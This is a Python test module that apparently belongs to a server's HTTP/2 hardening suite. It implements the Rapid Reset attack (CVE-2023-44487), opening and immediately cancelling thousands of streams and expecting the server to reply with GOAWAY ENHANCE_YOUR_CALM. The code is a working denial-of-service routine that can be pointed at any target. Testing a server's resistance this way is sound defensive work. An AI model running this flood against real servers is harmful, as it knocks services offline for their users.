"""Rapid Reset (CVE-2023-44487): open a stream and cancel it at once, over and over, so
the server starts work it never gets to finish. Expected: GOAWAY ENHANCE_YOUR_CALM."""

import struct
import time

from harness import (END_HEADERS, END_STREAM, GOAWAY, HEADERS, PREFACE, RST_STREAM, Attack, FrameReader,
                     ERROR_NAMES, frame, h2_tls_connect, h2c_connect, hpack_get, settings, wait_for_goaway)

MAX_STREAMS = 50_000  # the attack stops here if servy never objects
BATCH = 100
SECONDS = 10


def rapid_reset(target, tls: bool) -> tuple[bool, str]:
    sock = h2_tls_connect(target) if tls else h2c_connect(target)
    reader = FrameReader(sock)
    sock.sendall(PREFACE + settings())
    block = hpack_get(scheme="https" if tls else "http")
    cancel = struct.pack(">I", 8)
    sid, code, start = 1, None, time.monotonic()
    try:
        while sid < 2 * MAX_STREAMS and time.monotonic() - start < SECONDS and code is None:
            batch = b"".join(frame(HEADERS, END_HEADERS | END_STREAM, s, block) + frame(RST_STREAM, 0, s, cancel)
                             for s in range(sid, sid + 2 * BATCH, 2))
            sid += 2 * BATCH
            sock.sendall(batch)
            alive = reader.feed(0.001)
            for kind, _, _, payload in reader.frames():
                if kind == GOAWAY:
                    code = int.from_bytes(payload[4:8], "big")
            if not alive:
                break
    except OSError as e:
        reader.close_reason = type(e).__name__  # what servy sent before closing may still be unread
    if code is None:
        code, _ = wait_for_goaway(reader, 2)
    sock.close()
    streams = sid // 2
    if code is None:
        return False, f"no GOAWAY after {streams} streams ({reader.close_reason or 'open'})"
    return code == 11, f"GOAWAY {ERROR_NAMES.get(code, code)} after {streams} streams"


ATTACKS = [
    Attack("rapid_reset_plain__goaway_enhance_your_calm", lambda t: rapid_reset(t, tls=False)),
    Attack("rapid_reset_tls__goaway_enhance_your_calm", lambda t: rapid_reset(t, tls=True)),
]
